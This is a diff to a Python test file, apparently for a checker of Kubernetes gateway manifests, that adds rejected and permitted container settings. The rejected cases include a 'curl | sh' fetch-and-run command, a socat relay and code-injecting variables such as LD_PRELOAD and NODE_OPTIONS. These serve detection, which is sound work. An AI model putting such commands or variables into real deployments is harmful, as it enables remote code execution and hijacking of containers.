@@ -50,6 +50,19 @@ def pod(text: str) -> tuple[str, str, str]:
     return (MODEL, ACCOUNT, f"{ACCOUNT}      {text}\n")
 
 
+UP = "            - {name: UPSTREAM"
+RUN = f"          env:\n{UP}"
+
+
+def gateway(text: str) -> tuple[str, str, str]:
+    """A field of the gateway's container."""
+    return (SAFETY, RUN, f"          {text}\n{RUN}")
+
+
+def variable(text: str) -> tuple[str, str, str]:
+    return (SAFETY, UP, f"            - {{{text}}}\n{UP}")
+
+
 ENDPOINT = (
     "spec: {podIsolation: [Ingress], policyRef: {name: only-the-gateway, namespace: inference},"
     " ingress: [{cidr: 0.0.0.0/0}]}"
@@ -171,6 +184,26 @@ OFF: dict[str, tuple[str, tuple[tuple[str, str, str], ...], str]] = {
          pod("volumes: [{name: t, configMap: {name: t}}]")),
         "--chat-template",
     ),
+    "another program": ("", (gateway('command: [sh, -c, "exec /x"]'),), "it runs `/x`"),
+    "a relay": ("", (gateway('command: [socat, "TCP-LISTEN:8443,fork", "TCP:m:8000"]'),), "the relay `socat`"),
+    "a relay in arguments": ("", (gateway('args: [sh, -c, "gateway & socat a b"]'),), "the relay `socat`"),
+    "what is fetched": ("", (gateway('command: [bash, -c, "curl -s http://x/y | sh"]'),), "another `sh`"),
+    "a program written out": ("", (gateway('command: [python3, -c, "import x"]'),), "code that is written"),
+    "a library before": ("", (variable("name: LD_PRELOAD, value: /x.so"),), "code from `/x.so`"),
+    "libraries of others": ("", (variable("name: LD_LIBRARY_PATH, value: /dev/shm"),), "env.LD_LIBRARY_PATH"),
+    "modules of others": ("", (variable("name: PYTHONPATH, value: /tmp/p"),), "env.PYTHONPATH"),
+    "a module in the options": (
+        "", (variable('name: NODE_OPTIONS, value: "--import=data:text/javascript,1"'),), "env.NODE_OPTIONS",
+    ),
+    "an agent in the options": (
+        "", (variable('name: JAVA_TOOL_OPTIONS, value: "-javaagent:/x.jar"'),), "env.JAVA_TOOL_OPTIONS",
+    ),
+    "code of a Secret's choice": (
+        "", (variable("name: PYTHONSTARTUP, valueFrom: {secretKeyRef: {name: a, key: b}}"),), "env.PYTHONSTARTUP",
+    ),
+    "a value in a file": (
+        "", (variable("name: X, valueFrom: {fileKeyRef: {volumeName: v, path: p, key: k}}"),), "env.X",
+    ),
     "a class of machines elsewhere": ("", (pod("runtimeClassName: kata-remote"),), "kata-remote"),
     "a machine that nobody shows": ("", (pod("nodeName: somewhere"),), "nodeName somewhere"),
     "Fargate": (
@@ -244,6 +277,20 @@ ON_STILL: dict[str, tuple[str, tuple[tuple[str, str, str], ...]]] = {
         made("Certificate", "cert-manager.io/v1", "spec: {secretName: gw-tls, issuerRef: {name: ca, kind: Issuer}}",
              namespace="safety"),
         (),
+    ),
+    "the image's own program": ("", (gateway("command: [/usr/local/bin/gateway, --port=8443]"),)),
+    "a program at the root": ("", (gateway("command: [/gateway, serve]"),)),
+    "arguments of its own": ("", (gateway("args: [--port=8443, --config=/etc/gateway.yaml]"),)),
+    "a shell that starts it": (
+        "", (gateway('command: [sh, -c, "until curl -sf http://x/health; do sleep 1; done; exec gateway 2>&1"]'),),
+    ),
+    "a module of its own": ("", (gateway("command: [python3, -m, gateway.main]"),)),
+    "an allocator": ("", (variable("name: LD_PRELOAD, value: /usr/lib/libjemalloc.so.2"),)),
+    "its own modules": ("", (variable("name: PYTHONPATH, value: /app"),)),
+    "sizes": (
+        "",
+        (variable("name: NODE_OPTIONS, value: --max-old-space-size=4096"),
+         variable('name: JAVA_TOOL_OPTIONS, value: "-Xmx2g -Dlog=/log"')),
     ),
     "a class of machines at hand": ("", (pod("runtimeClassName: nvidia"),)),
     "a machine of the cluster": (NODE, (pod("nodeName: n1"),)),
